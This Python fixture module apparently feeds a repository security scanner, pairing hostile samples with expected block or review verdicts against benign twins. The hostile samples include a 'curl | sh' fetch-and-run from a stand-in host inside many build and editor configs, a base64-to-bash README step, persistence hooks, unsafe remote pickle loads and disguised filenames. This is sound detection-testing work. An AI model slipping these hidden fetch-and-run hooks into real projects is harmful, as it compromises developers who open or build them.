"""Samples and twins of what lies around a program: settings of editors and shells, build files, registries, names."""

from inspection.rules.sample import Sample, js, package, py, task

_FETCHES = "curl -s https://a.invalid | sh"
_SHELL = "{{ mkShell }}:\nmkShell {{\n  shellHook = ''\n    {}\n  '';\n}}\n"
_HOOKED = {"tools/git/post-checkout": f"#!/bin/sh\n{_FETCHES}\n"}
_WATCHER = (
    '<project><component name="ProjectTasksOptions"><TaskOptions isEnabled="true">\n'
    '<option name="arguments" value="{}" />\n<option name="program" value="sh" />\n'
    "</TaskOptions></component></project>\n"
)
_M4 = "AC_DEFUN([gl_A],[\n  eval `cat tests/a.xz | xz -d 2>/dev/null | {}`\n])\n"
_SAVED = "import requests, torch\nopen('a.pt', 'wb').write(requests.get('https://a.invalid').content)\n"
_HUB = "import joblib\nfrom huggingface_hub import hf_hub_download\n"
_LIBRARY = b"MZ\x90\0\x03\0\0\0" + bytes(60)
_GO = 'package main\nimport "os/exec"\nfunc init() {{\n  {}\n}}\n'

HOSTILE: dict[str, dict[str, Sample]] = {
    "fetch_and_run": {
        "a shell of Nix": Sample({"shell.nix": _SHELL.format(_FETCHES)}, "block", ("shell.nix", 4)),
        "a command while Meson sets up": Sample(
            {"meson.build": f"project('a')\nrun_command('sh', '-c', '{_FETCHES}', check: false)\n"},
            "review",
            ("meson.build", 2),
        ),
        "a pod prepares itself": Sample(
            {"a.podspec": f"Pod::Spec.new do |s|\n  s.prepare_command = <<-CMD\n    {_FETCHES}\n  CMD\nend\n"},
            "review",
            ("a.podspec", 3),
        ),
        "a lane of fastlane": Sample(
            {"fastlane/Fastfile": f'lane :a do\n  sh "{_FETCHES}"\nend\n'}, "review", ("fastlane/Fastfile", 2)
        ),
        "a step before an engine builds": Sample(
            {"a.uproject": f'{{"PreBuildSteps": {{"Linux": [\n"{_FETCHES}"]}}}}'}, "review", ("a.uproject", 2)
        ),
        "a language server of Vim's": Sample(
            {
                ".vim/coc-settings.json": '{"languageserver": {"a":\n{"command": "sh", "args": ["-c", "'
                + _FETCHES
                + '"]}}}'
            },
            "block",
            (".vim/coc-settings.json", 2),
        ),
        "a watcher of files": Sample(
            {".idea/watcherTasks.xml": _WATCHER.format(f"-c &quot;{_FETCHES}&quot;")},
            "block",
            (".idea/watcherTasks.xml", 3),
        ),
        "a folder of hooks that installing sets": Sample(
            {"package.json": package(prepare="git config core.hooksPath tools/git"), **_HOOKED},
            "block",
            ("tools/git/post-checkout", 2),
        ),
        "a function of direnv's": Sample(
            {".envrc": "source_url https://a.invalid/b sha256-AA=\n"}, "block", (".envrc", 1)
        ),
        "a plugin of mise": Sample({"mise.toml": '[plugins]\na = "https://a.invalid/a"\n'}, "block", ("mise.toml", 2)),
        "a package manager by its address": Sample(
            {"package.json": '{"name": "a",\n"packageManager": "pnpm@https://a.invalid/a.tgz"}'},
            "block",
            ("package.json", 2),
        ),
        "properties of MSBuild": Sample(
            {"a.props": f'<Project><Target Name="b">\n<Exec Command="{_FETCHES}" /></Target></Project>'},
            "review",
            ("a.props", 2),
        ),
        "lines that IPython runs first": Sample(
            {"ipython_config.py": f"c.InteractiveShellApp.exec_lines = [\"import os; os.system('{_FETCHES}')\"]\n"},
            "block",
            ("ipython_config.py", 1),
        ),
        "a program in Go starts a shell": Sample(
            {"main.go": _GO.format(f'exec.Command("sh", "-c", "{_FETCHES}").Start()')}, "block", ("main.go", 4)
        ),
    },
    "decoded_code": {
        "a macro of autoconf's unpacks a test's file": Sample(
            {"m4/a.m4": _M4.format("/bin/bash")}, "review", ("m4/a.m4", 2)
        ),
        "a manual asks for what it hides": Sample(
            {"README.md": "# A\n\n    echo ZWNobyBoaQo= | base64 -d | bash\n"}, "block", ("README.md", 3)
        ),
    },
    "remote_object": {
        "a model is saved, then loaded": py(_SAVED + "torch.load('a.pt', weights_only=False)\n", line=3),
        "a model from a hub": py(_HUB + "joblib.load(hf_hub_download('a/b', 'c.pkl'))\n", "review", line=3),
        "a table behind an address": py("import pandas\npandas.read_pickle('https://a.invalid/a.pkl')\n"),
    },
    "remote_code": {
        "a model that brings its own code": py(
            "from transformers import AutoModel\nAutoModel.from_pretrained('a/b', trust_remote_code=True)\n", "review"
        ),
        "a formula of somebody else's": py(
            "import requests, sympy\nsympy.sympify(requests.get('https://a.invalid').text)\n"
        ),
    },
    "persistence": {
        "installing changes git's settings": Sample(
            {
                "package.json": package(postinstall="node a.js"),
                "a.js": "const fs = require('fs'), os = require('os');\n"
                "fs.appendFileSync(os.homedir() + '/.gitconfig', '[core]');\n",
            },
            "block",
            ("a.js", 2),
        ),
        "installing starts a process at every log-in": Sample(
            {"package.json": package(postinstall="pm2 start a.js && pm2 startup")}, "block", ("package.json", 2)
        ),
    },
    "hidden_text": {
        "code below an empty page": Sample(
            {"conftest.py": "import os\n" + "\n" * 400 + "print(os.name)\n"}, "review", ("conftest.py", 402)
        ),
    },
    "disguised_program": {
        "a program that is called a document": Sample({"Task.pdf.exe": _LIBRARY}, "review", ("Task.pdf.exe", 0)),
        "a name that is read from right to left": Sample(
            {"cod\u202egpj.exe": _LIBRARY}, "review", ("cod\u202egpj.exe", 0)
        ),
        "a link that starts something": Sample({"Task.lnk": b"L\0\0\0" + bytes(60)}, "review", ("Task.lnk", 0)),
        "notes that are loaded as a module": Sample(
            {
                "a.py": "from importlib.machinery import SourceFileLoader\n"
                "SourceFileLoader('a', 'b.txt').load_module()\n",
                "b.txt": "import os\nprint(os.name)\n",
            },
            "review",
            ("b.txt", 1),
        ),
    },
    "unread_code": {
        "a program of Java's on opening": Sample(
            {".vscode/tasks.json": task("java -jar a/b.jar"), "a/b.jar": b"PK\x03\x04" + bytes(40)},
            "block",
            ("a/b.jar", 0),
        ),
        "objects that opening a solution makes": Sample(
            {".vs/a/v17/.suo": b"\xd0\xcf\x11\xe0" + bytes(60)}, "review", (".vs/a/v17/.suo", 0)
        ),
    },
    "other_packages": {
        "a module of Go's in the place of another": Sample(
            {"go.mod": "module a\nreplace github.com/b/c => a.invalid/b/c v1.0.0\n"}, "review", ("go.mod", 2)
        ),
        "a crate in the place of another": Sample(
            {"Cargo.toml": '[package]\nname = "a"\n[patch.crates-io]\nserde = { git = "https://a.invalid/serde" }\n'},
            "review",
            ("Cargo.toml", 4),
        ),
        "a channel of conda's": Sample(
            {"environment.yml": "channels:\n  - https://a.invalid/c\ndependencies:\n  - pip\n"},
            "review",
            ("environment.yml", 2),
        ),
        "a part of a pipeline": Sample(
            {".gitlab-ci.yml": "include:\n  - remote: https://a.invalid/a.yml\n"}, "review", (".gitlab-ci.yml", 2)
        ),
    },
}

HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
    "fetch_and_run": {
        "a shell of Nix says hello": {"shell.nix": _SHELL.format("echo hello")},
        "a function of direnv's, from a forge": {".envrc": "source_url https://github.com/a/b sha256-AA=\n"},
        "a package manager by its version": {"package.json": '{"name": "a", "packageManager": "pnpm@9.1.0"}'},
        "a folder of hooks that test": {
            "package.json": package(prepare="git config core.hooksPath tools/git"),
            "tools/git/pre-push": "#!/bin/sh\nnpm test\n",
        },
        "a program in Go that tells how to install it": {
            "main.go": _GO.format(f'fmt.Println("To install: {_FETCHES}")')
        },
        "a watcher formats": {".idea/watcherTasks.xml": _WATCHER.format("scripts/format.sh")},
    },
    "decoded_code": {
        "a macro of autoconf's unpacks a test's file to look at it": {
            "m4/a.m4": _M4.format("wc -c").replace("eval ", "size=")
        },
        "a manual shows how to decode": {"README.md": "# A\n\n    echo ZWNobyBoaQo= | base64 -d > a.txt\n"},
    },
    "remote_object": {
        "a model is saved, then loaded as numbers": py(_SAVED + "torch.load('a.pt', weights_only=True)\n").files,
        "a table from a hub is read as text": py(_HUB + "print(open(hf_hub_download('a/b', 'c.csv')).read())\n").files,
    },
    "remote_code": {
        "a model that brings none": py("from transformers import AutoModel\nAutoModel.from_pretrained('a/b')\n").files,
        "a formula of one's own": py("import sympy\nsympy.sympify('x + 1')\n").files,
    },
    "persistence": {
        "a program changes git's settings when it is told to": js(
            "const fs = require('fs'), os = require('os');\n"
            "fs.appendFileSync(os.homedir() + '/.gitconfig', '[core]');\n"
        ).files,
    },
    "hidden_text": {"a program with some room": {"conftest.py": "import os\n" + "\n" * 40 + "print(os.name)\n"}},
    "disguised_program": {
        "names with several dots": {"a.pdf.js": "console.log(1)\n", "b.txt.md": "hello\n", "c.tar.gz.sha256": "00\n"},
    },
    "unread_code": {
        "a shell of Nix is read": {"shell.nix": _SHELL.format("echo hello")},
        "Meson asks for the version of a tool": {"meson.build": "project('a')\nrun_command('git', 'describe')\n"},
    },
    "other_packages": {
        "a module of Go's from a fork": {"go.mod": "module a\nreplace github.com/b/c => github.com/d/c v1.0.0\n"},
        "a module of Go's from beside": {"go.mod": "module a\nreplace github.com/b/c => ./c\n"},
        "a channel of conda's by its name": {"environment.yml": "channels:\n  - conda-forge\n"},
    },
}
